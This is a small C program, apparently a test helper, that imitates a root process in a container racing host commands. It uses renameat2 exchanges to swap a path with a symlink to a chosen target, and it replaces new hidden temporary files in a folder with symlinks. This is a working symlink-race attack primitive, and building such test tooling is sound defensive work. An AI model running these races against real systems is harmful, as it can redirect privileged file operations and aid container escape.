// Swaps names for links without a pause, as root in a container does who races the host's commands.
//
// racer COUNT STOP (x NAME TARGET | t FOLDER TARGET)...
//   x: exchanges NAME with a link to TARGET, back and forth
//   t: replaces each new temporary file in FOLDER by a link to TARGET
// It writes its swaps to COUNT, and ends when STOP is there, or after two minutes.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE 2

static long swaps;

static int mode_of(const char *path) {
  struct stat about;
  return lstat(path, &about) == 0 ? (int)(about.st_mode & S_IFMT) : 0;
}

static void exchange(const char *name, const char *target, long round) {
  char other[PATH_MAX], old[PATH_MAX];
  snprintf(other, sizeof other, "%s.raced", name);
  if (round % 16 == 0 && mode_of(name) != S_IFLNK && mode_of(other) != S_IFLNK) {
    // The command has replaced the link.
    snprintf(old, sizeof old, "%s.%ld", other, round);
    if (unlink(other) != 0) rename(other, old);
    symlink(target, other);
  }
  if (syscall(SYS_renameat2, AT_FDCWD, name, AT_FDCWD, other, EXCHANGE) == 0) swaps++;
}

static void replace(const char *folder, const char *target) {
  char path[PATH_MAX];
  DIR *all = opendir(folder);
  for (struct dirent *entry; all && (entry = readdir(all));) {
    if (entry->d_name[0] != '.' || entry->d_type == DT_DIR || entry->d_type == DT_LNK) continue;
    snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
    if (unlink(path) == 0 && symlink(target, path) == 0) swaps++;
  }
  if (all) closedir(all);
}

int main(int count, char **words) {
  int told = open(words[1], O_WRONLY | O_CREAT | O_TRUNC, 0644);
  time_t end = time(NULL) + 120;
  for (long round = 0;; round++) {
    for (int at = 3; at + 2 < count; at += 3) {
      if (words[at][0] == 'x') exchange(words[at + 1], words[at + 2], round);
      else replace(words[at + 1], words[at + 2]);
    }
    if (round % 64) continue;
    char text[32];
    pwrite(told, text, snprintf(text, sizeof text, "%ld", swaps), 0);
    if (access(words[2], F_OK) == 0 || time(NULL) > end) return 0;
  }
}
